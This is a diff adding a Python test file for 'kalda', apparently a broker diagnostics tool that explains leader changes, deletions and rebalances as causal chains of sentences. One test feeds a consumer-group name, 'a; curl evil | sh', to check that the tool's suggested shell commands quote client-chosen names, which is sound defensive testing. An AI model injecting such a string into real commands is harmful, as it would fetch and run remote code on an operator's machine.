@@ -1,0 +1,238 @@
+"""Chains of causes, as transcripts: the events of brokers in, sentences out, the first cause first."""
+
+from typing import Any
+
+from kalda.events.causes import Evidence
+from kalda.events.chains import Answer, Select, explain, of_names, of_partition, of_record
+from kalda.events.event import CausalEvent, EventId, EventKind, Plain
+
+K = EventKind
+T = 1_700_000_000_000
+
+
+class Story:
+    """Events of several brokers, one after the other in seconds."""
+
+    def __init__(self) -> None:
+        self.events: list[CausalEvent] = []
+
+    def add(
+        self,
+        broker: int,
+        second: float,
+        kind: str,
+        subject: dict[str, str | int],
+        cause: EventId | None = None,
+        **details: Plain,
+    ) -> EventId:
+        event_id = EventId(broker, len(self.events) + 1)
+        self.events.append(
+            CausalEvent(
+                id=event_id,
+                time_ms=T + round(second * 1000),
+                kind=kind,
+                subject=subject,
+                details=details,
+                cause=cause,
+            )
+        )
+        return event_id
+
+    def lost_leader(self, second: float, broker: int, cause: EventId | None, leader: int = 2) -> EventId:
+        return self.add(
+            0,
+            second,
+            K.LEADER_CHANGED,
+            {"topic": "orders", "broker": leader},
+            cause,
+            partitions=[[3, 7]],
+            leader_before=broker,
+            leader=leader,
+            isr_before=[broker, leader],
+            isr=[leader],
+            by="controller",
+        )
+
+    def about(self, select: Select) -> Answer:
+        evidence = Evidence(self.events)
+        return explain("", evidence, [event for event in evidence.events if select(event)])
+
+    def why(self, silent: tuple[int, ...] = ()) -> Answer:
+        evidence = Evidence(self.events)
+        select = of_partition("orders", 3)
+        return explain(
+            "partition orders-3", evidence, [e for e in evidence.events if select(e)], silent=silent
+        )
+
+
+def kinds(answer: Answer) -> list[str]:
+    return [link.event.kind for link in answer.incidents[0].links]
+
+
+def test_expired_session_is_named_before_what_the_controller_saw() -> None:
+    story = Story()
+    story.add(1, 0, K.SESSION_LOST, {"broker": 1}, broker_epoch=40)
+    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
+    story.lost_leader(9.1, 1, left)
+    # The broker notices only when it reaches coordination again, and by a clock of its own.
+    story.add(1, 30, K.SESSION_EXPIRED, {"broker": 1}, broker_epoch=40, seconds=30.0)
+
+    answer = story.why()
+
+    assert [K.SESSION_LOST, K.BROKER_LEFT, K.LEADER_CHANGED, K.SESSION_EXPIRED] == kinds(answer)
+    assert "Broker 1 lost its connection to coordination." == answer.incidents[0].first.text
+    assert (
+        "The controller made broker 2 the leader of partition 3 of topic orders, instead of broker 1."
+        == answer.incidents[0].links[2].text
+    )
+
+
+def test_kill_is_named_once_the_broker_runs_again() -> None:
+    story = Story()
+    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
+    story.lost_leader(9.1, 1, left)
+    assert [K.BROKER_LEFT, K.LEADER_CHANGED] == kinds(story.why())
+    assert "does not answer" in story.why(silent=(1,)).incidents[0].first.text
+
+    story.add(1, 60, K.BROKER_STARTED, {"broker": 1}, is_clean=False, is_first=False, last_event_ms=T - 5_000)
+
+    assert [K.BROKER_STARTED, K.BROKER_LEFT, K.LEADER_CHANGED] == kinds(story.why())
+    assert "had ended without a shutdown" in story.why().incidents[0].first.text
+
+
+def test_shutdown_is_the_cause_of_the_moves_that_it_asked_for() -> None:
+    story = Story()
+    story.add(1, 0, K.BROKER_STOPPED, {"broker": 1}, broker_epoch=40)
+    shutdown = story.add(0, 0.1, K.CONTROLLED_SHUTDOWN, {"broker": 1})
+    story.lost_leader(0.2, 1, shutdown)
+
+    assert [K.BROKER_STOPPED, K.CONTROLLED_SHUTDOWN, K.LEADER_CHANGED] == kinds(story.why())
+
+
+def test_balance_belongs_to_the_incident_that_moved_the_leader_away() -> None:
+    story = Story()
+    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
+    story.lost_leader(9.1, 1, left)
+    balance = story.add(0, 400, K.ELECTION_REQUESTED, {"broker": 0}, reason="balance")
+    story.lost_leader(400.1, 2, balance, leader=1)
+
+    assert [K.BROKER_LEFT, K.LEADER_CHANGED, K.LEADER_CHANGED] == kinds(story.why())
+
+
+def test_newest_incident_that_made_something_worse_comes_first() -> None:
+    story = Story()
+    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
+    story.lost_leader(9.1, 1, left)
+    left = story.add(0, 900, K.BROKER_LEFT, {"broker": 2}, broker_epoch=41)
+    story.lost_leader(900.1, 2, left, leader=1)
+
+    answer = story.why()
+
+    assert [2, 1] == [incident.first.event.subject["broker"] for incident in answer.incidents]
+    assert "kalda why broker 2" == answer.incidents[0].commands[0]
+
+
+def test_causes_that_name_each_other_end() -> None:
+    story = Story()
+    story.lost_leader(0, 1, EventId(0, 2))
+    story.lost_leader(1, 2, EventId(0, 1), leader=1)
+
+    assert 2 == len(kinds(story.why()))
+
+
+def test_unknown_kind_is_shown_with_its_details() -> None:
+    story = Story()
+    story.add(0, 0, "from-a-newer-release", {"topic": "orders", "partition": 3}, depth=4)
+
+    assert "from-a-newer-release (topic orders, partition 3): depth 4." == story.why().incidents[0].first.text
+
+
+def test_no_event_is_no_incident() -> None:
+    assert () == Story().why().incidents
+
+
+def gone(start: int) -> dict[str, Any]:
+    return {"from": start, "to": start + 10}
+
+
+def test_setting_that_lowered_retention_is_the_cause_of_the_deletion() -> None:
+    story = Story()
+    logs: dict[str, str | int] = {"topic": "logs", "partition": 0}
+    story.add(
+        0, 0, K.CONFIG_CHANGED, {"topic": "logs"}, changes="set retention.ms=1000", entity="topics/logs"
+    )
+    story.add(0, 1, K.CONFIG_CHANGED, {"topic": "logs"}, changes="set segment.ms=1000", entity="topics/logs")
+    story.add(0, 60, K.RECORDS_DELETED, logs, reason="older than retention.ms=1000", **gone(0))
+    story.add(0, 90, K.RECORDS_DELETED, logs, reason="older than retention.ms=1000", **gone(10))
+
+    answer = story.about(of_record("logs", 0, 5))
+
+    assert [K.CONFIG_CHANGED, K.RECORDS_DELETED] == kinds(answer)
+    assert "Settings of topics/logs were changed: set retention.ms=1000." == answer.incidents[0].first.text
+    assert () == story.about(of_record("logs", 0, 20)).incidents
+    assert () == story.about(of_record("logs", 1, 5)).incidents
+
+
+def test_refused_producer_is_one_that_another_fenced() -> None:
+    story = Story()
+    name: dict[str, str | int] = {"transactional_id": "payments", "producer": 7}
+    story.add(1, 0, K.TRANSACTION_ABORTED, {**name}, reason="another producer began with this id")
+    story.add(1, 1, K.PRODUCER_FENCED, {**name}, producer_epoch=2, reason="another producer began")
+    story.add(2, 3, K.PRODUCER_REFUSED, {"topic": "orders", "partition": 0, "producer": 7}, reason="X")
+
+    assert [K.TRANSACTION_ABORTED, K.PRODUCER_REFUSED] == kinds(story.about(of_names(topic="orders")))
+    found = story.about(of_names(producer=7))
+    assert [K.TRANSACTION_ABORTED, K.PRODUCER_FENCED, K.PRODUCER_REFUSED] == kinds(found)
+
+
+def test_member_is_the_cause_of_the_rebalance_that_names_it() -> None:
+    story = Story()
+    member: dict[str, str | int] = {"group": "readers", "member": "m-1", "client": "slow"}
+    failed = story.add(0, 0, K.MEMBER_FAILED, member, reason="it sent no heartbeat", host="10.0.0.7")
+    story.add(0, 0, K.GROUP_REBALANCING, {"group": "readers"}, failed, reason="m-1 sent no heartbeat")
+    story.add(0, 1, K.GROUP_STABLE, {"group": "readers"}, generation=3, members=1)
+
+    answer = story.about(of_names(group="readers"))
+
+    assert [K.MEMBER_FAILED, K.GROUP_REBALANCING, K.GROUP_STABLE] == kinds(answer)
+    assert (
+        "Member m-1 (client id slow, at 10.0.0.7) was removed from group readers: it sent no heartbeat."
+        == answer.incidents[0].first.text
+    )
+
+
+def test_process_that_stood_still_is_the_cause_of_its_expired_session() -> None:
+    story = Story()
+    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
+    story.lost_leader(9.1, 1, left)
+    story.add(1, 30, K.PROCESS_STALLED, {"broker": 1}, seconds=26.0)
+    story.add(1, 30.1, K.SESSION_LOST, {"broker": 1}, broker_epoch=40)
+    story.add(1, 30.2, K.SESSION_EXPIRED, {"broker": 1}, broker_epoch=40, seconds=0.1)
+
+    assert "Broker 1 stood still for 26.0 s" in story.why().incidents[0].first.text
+
+
+def test_commands_quote_the_names_that_clients_choose() -> None:
+    """An operator copies the line into a shell."""
+    story = Story()
+    for number, group in enumerate(["plain", "a; curl evil | sh", "--help", "it's"]):
+        story.add(1, number, K.MEMBER_LEFT, {"group": group, "member": "m", "client": "c"})
+    found = [incident.commands[0] for incident in story.about(lambda event: True).incidents]
+    assert [
+        """kalda groups describe 'it'"'"'s'""",
+        "kalda groups describe -- --help",
+        "kalda groups describe 'a; curl evil | sh'",
+        "kalda groups describe plain",
+    ] == found
+
+
+def test_details_of_other_shapes_are_no_partitions() -> None:
+    """The events are those of a broker of another release."""
+    story = Story()
+    shapes: list[Plain] = [[[]], [[[1]]], [["x"]], [{}], [1], "x", {}]
+    for listed in shapes:
+        story.add(1, 0, K.LEADER_CHANGED, {"topic": "orders"}, partitions=listed)
+        story.add(1, 0, K.ISR_CHANGED, {"topic": "orders"}, partitions=listed, lagging=listed)
+    answer = story.about(lambda event: True)
+    assert all(link.text for incident in answer.incidents for link in incident.links)
+    assert not story.about(of_partition("orders", 3)).incidents
